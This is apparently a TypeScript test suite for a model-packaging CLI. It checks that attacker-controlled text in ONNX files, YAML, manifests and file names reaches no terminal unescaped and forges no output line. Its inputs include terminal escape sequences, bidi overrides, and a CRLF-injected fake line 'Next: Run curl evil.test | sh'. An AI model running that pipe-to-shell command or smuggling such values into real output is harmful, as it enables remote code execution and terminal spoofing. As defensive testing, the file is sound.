import assert from 'node:assert/strict';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runCli } from '../lib/cli.js';
import { temporaryFolder } from '../lib/model-package.js';
import { node, onnxModel, rawTensor } from '../lib/onnx-builder.js';

const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
/** What a terminal obeys, what turns text around, and what writes a line of its own. */
const TEXTS = [
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\u202etxt.exe\u202c',
  'x\r\nNext: Run curl evil.test | sh',
  '\u2028x\u0085y\u200b\u2066z\u2069',
];

function modelOf(text: string, opType: string): Uint8Array {
  const value = { name: `x${text}`, datatype: 'FP32', shape: [`n${text}`, 1] } as const;
  const weight = rawTensor(`w${text}`, 'FP32', [1], Float32Array.of(1));
  return onnxModel({
    inputs: [value],
    outputs: [{ ...value, name: `y${text}` }],
    initializers: [weight],
    nodes: [node(opType, [value.name, `w${text}`], [`y${text}`])],
    domains: [{ domain: `d${text}`, version: 1 }],
  });
}

describe('what a stranger wrote', () => {
  it('reaches no terminal by any command that reads his file, and forges no line of ours', async () => {
    const root = await temporaryFolder('hostile-text-');
    try {
      for (const [index, text] of TEXTS.entries()) {
        const folder = join(root, String(index));
        await mkdir(folder);
        const at = (name: string): string => join(folder, name);
        await writeFile(at('good.onnx'), modelOf(text, 'Add'));
        await writeFile(at('bad.onnx'), modelOf(text, `Op${text}`));
        await writeFile(at(`f${text.replaceAll('/', '')}.onnx`), 'no model');
        await writeFile(
          at('model.yaml'),
          `name: ${JSON.stringify(`n${text}`)}\nversion: 1.0.0\n${JSON.stringify(`k${text}`)}: 1\n`,
        );
        await writeFile(
          at('manifest.json'),
          JSON.stringify({ formatVersion: 1, [`k${text}`]: text, name: text }),
        );
        await writeFile(
          at('fleets.yaml'),
          `fleets:\n  - ${JSON.stringify(`k${text}`)}: ${JSON.stringify(text)}\n`,
        );
        const named = at(`f${text.replaceAll('/', '')}.onnx`);
        const commands = [
          ['inspect', at('good.onnx')],
          ['inspect', at('good.onnx'), '--json'],
          ['inspect', at('bad.onnx')],
          ['inspect', named],
          ['inspect', `/nowhere/${text}`],
          ['package', folder, '--out', at('out')],
          ['verify', folder],
          ['verify', folder, '--json'],
          ['compile', at('bad.onnx'), '--out', at('compiled.onnx')],
          ['fleet', 'plan', at('fleets.yaml')],
        ];
        for (const args of commands) {
          const { out, error } = await runCli(args);
          const told = `${args[0]} ${JSON.stringify(text)}`;
          assert.ok((out + error).length > 0, told);
          for (const line of `${out}\n${error}`.split('\n')) {
            assert.ok(!UNSEEN.test(line), `${told}: ${JSON.stringify(line)}`);
            assert.ok(!line.startsWith('Next: Run curl'), told);
          }
        }
      }
    } finally {
      await rm(root, { recursive: true });
    }
  });
});
